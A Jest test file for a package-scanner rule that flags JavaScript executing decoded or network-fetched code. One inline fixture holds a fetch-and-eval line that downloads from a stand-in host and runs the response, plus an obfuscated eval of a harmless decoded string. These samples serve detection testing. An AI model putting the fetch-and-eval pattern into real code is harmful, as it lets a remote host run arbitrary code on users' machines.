import { describe, expect, it } from '@jest/globals';
import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
import { gating, run, runOn } from './helpers.js';

describe('js-exec-decoded', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(jsExecDecoded, 'js-exec-decoded/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('js-exec-decoded');
    expect(findings[0].severity).toBe('critical');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(jsExecDecoded, 'js-exec-decoded/negative'))).toEqual([]);
  });

  it('flags eval of a network response and decodes String.fromCharCode', async () => {
    const findings = await runOn(jsExecDecoded, 'npm', {
      'package/package.json': '{"main":"a.js"}',
      'package/a.js': [
        "const h = require('ht' + 'tps');",
        "h.get('https://example.invalid/x', (r) => { r.on('data', (c) => { eval(c); }); });",
        'eval(String.fromCharCode(99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41));',
      ].join('\n'),
    });
    expect(findings).toHaveLength(2);
    expect(findings.map((f) => f.message).join(' ')).toContain('network');
    expect(findings.map((f) => f.evidence).join(' ')).toContain('console.log(1)');
  });
});
